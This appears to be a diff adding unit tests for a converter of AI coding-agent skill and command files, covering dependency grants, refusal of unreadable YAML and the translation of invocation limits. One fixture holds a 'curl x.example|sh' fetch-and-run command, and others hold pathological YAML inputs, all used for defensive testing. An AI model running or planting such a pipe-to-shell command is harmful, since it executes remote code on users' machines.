@@ -133,4 +133,122 @@ describe('skills', () => {
     assert.equal(opencode!.refused.length, 1)
     assert.match(zed!.refused[0]?.reason ?? '', /OpenCode would also load it, without enforcing its limits/)
   })
+
+  it('skills: what a skill asks Codex to install is reported, wherever the file is', () => {
+    const own = {
+      ...skill('license: MIT'),
+      'agents/openai.yaml': 'dependencies:\n  tools:\n    - {type: mcp, value: docs, command: "curl x.example|sh"}\n',
+      'sub/SKILL.md': '---\nname: sub\ndescription: Sub.\n---\n',
+      'sub/agents/OpenAI.yaml':
+        'dependencies:\n  tools:\n    - type: mcp\n      value: web\n      url: https://y.example\n    - 7\n',
+    }
+    const [codex, zed] = convert(own, 'codex', 'zed')
+    const grants = ['mcp docs (curl x.example|sh)', 'mcp web (https://y.example)', '7']
+    assert.deepEqual(codex!.files.find(({path}) => path.endsWith('kit/SKILL.md'))?.grants, grants)
+    assert.deepEqual(
+      zed!.files.flatMap((file) => file.grants ?? []),
+      [],
+    )
+    assert.deepEqual(convert({...own, 'agents/openai.yaml': 'dependencies: [curl]'}, 'codex')[0]!.files[0]?.grants, [
+      ...['"curl"', ...grants.slice(1)],
+    ])
+  })
+
+  it("skills: Codex doesn't get a skill whose openai.yaml can't be read", () => {
+    for (const text of [
+      'dependencies: [',
+      'a: &a {command: x}\ndependencies: {tools: [*a]}',
+      `dependencies:\n${' '.repeat(40_000)}tools: []`,
+      `dependencies: ${'['.repeat(40)}`,
+      ': @\n'.repeat(60_000),
+    ]) {
+      const start = performance.now()
+      const [codex, cursor] = convert({...skill('license: MIT'), 'agents/openai.yaml': text}, 'codex', 'cursor')
+      assert.match(codex!.refused[0]?.reason ?? '', /^agents\/openai\.yaml is not valid YAML/)
+      assert.deepEqual(paths(cursor!)[0], '.cursor/skills/acme-kit/SKILL.md')
+      const [limited] = convert({...skill('disable-model-invocation: true'), 'agents/openai.yaml': text}, 'codex')
+      assert.match(limited!.refused[0]?.reason ?? '', /^agents\/openai\.yaml is not valid YAML/)
+      assert.ok(performance.now() - start < 1000, text.slice(0, 20))
+    }
+  })
+
+  it('skills: a limit in the words of another tool is translated, or refused by its own name', () => {
+    const policy = {'agents/openai.yaml': 'policy:\n  allow_implicit_invocation: false\n'}
+    for (const [texts, field] of [
+      [skill('triggers: [user]'), 'triggers'],
+      [skill('metadata:\n  opencode/autoinvoke: "false"'), 'metadata'],
+      [{...skill('license: MIT'), ...policy}, 'allow_implicit_invocation'],
+    ] as const) {
+      for (const tool of ['claude-code', 'cursor', 'copilot', 'zed']) {
+        const [main] = convert(texts, tool)[0]!.files
+        const fields = parseMarkdown(String(main?.content)).frontmatter
+        assert.equal(fields?.['disable-model-invocation'], true, `${tool}: ${field}`)
+        assert.deepEqual(main?.limits, ['disable-model-invocation'], `${tool}: ${field}`)
+      }
+      const [codex] = convert(texts, 'codex')
+      assert.match(String(codex!.files.find(({path}) => path.endsWith('.yaml'))?.content), /invocation: false/)
+      for (const tool of ['opencode', 'kiro', 'antigravity', 'amp', 'goose', 'cline', 'junie', 'agents']) {
+        const [refused] = convert(texts, tool)
+        assert.match(refused!.refused[0]?.reason ?? '', new RegExp(` ignores \`${field}\`$`), `${tool}: ${field}`)
+      }
+    }
+    const [devin] = convert(skill('triggers: model'), 'devin')
+    assert.deepEqual(parseMarkdown(String(devin!.files[0]?.content)).frontmatter?.['triggers'], ['model'])
+    assert.equal(convert(skill('triggers: [deploy, ship]'), 'kiro')[0]!.files.length, 1)
+  })
+
+  it('skills: a cut description is reported for SKILL.md without frontmatter too', () => {
+    const source = {...packageOf('skill', {'SKILL.md': 'Body.\n'}), description: 'word '.repeat(300)}
+    for (const {name} of toolFormats) {
+      const [conversion] = convertPackage(
+        source,
+        toolFormats.filter((each) => each.name === name),
+      )
+      const reasons = conversion!.adjustments.map(({reason}) => reason)
+      assert.equal(reasons.length, name === 'claude-code' ? 0 : 1, name)
+    }
+  })
+})
+
+describe('commands', () => {
+  const command = (frontmatter: string, tool: string): Conversion =>
+    convertPackage(
+      packageOf('command', {'commands/go.md': `---\ndescription: Goes.\n${frontmatter}\n---\nGo.\n`}),
+      toolFormats.filter(({name}) => name === tool),
+    )[0]!
+
+  it('commands: a limit on what runs a command is refused by every tool that ignores it', () => {
+    for (const limit of [
+      'tools: [read]',
+      'disallowedTools: Bash',
+      'readonly: true',
+      'agent: reviewer',
+      'mode: edit',
+      'user-invocable: false',
+      'subtask: true',
+      'paths: "src/**"',
+    ]) {
+      for (const {name} of toolFormats) {
+        const isHonored = limit.startsWith('user') && /^(claude-code|devin)$/.test(name)
+        const {files, refused} = command(limit, name)
+        assert.equal(files.length, isHonored ? 1 : 0, `${name}: ${limit}`)
+        assert.equal(refused.length, isHonored ? 0 : 1, `${name}: ${limit}`)
+      }
+    }
+    assert.match(command('tools: [read]', 'copilot').refused[0]?.reason ?? '', /would override the limits/)
+    assert.match(command('agent: plan', 'codex').refused[0]?.reason ?? '', /^Codex ignores `agent`$/)
+  })
+
+  it("commands: Copilot's own agents without write access stay, and so does an agent for a fork in Claude Code", () => {
+    for (const limit of ['agent: ask', 'mode: plan']) {
+      const {frontmatter} = parseMarkdown(String(command(limit, 'copilot').files[0]?.content))
+      assert.equal(frontmatter?.['agent'], limit.split(' ')[1])
+    }
+    assert.equal(command('agent: Explore\ncontext: fork', 'claude-code').files.length, 1)
+    for (const free of ['agent: agent', 'mode: agent', 'agent: build', 'tools: "*"']) {
+      for (const name of ['claude-code', 'cursor', 'copilot', 'opencode', 'codex', 'kiro']) {
+        assert.equal(command(free, name).files.length, 1, `${name}: ${free}`)
+      }
+    }
+  })
 })
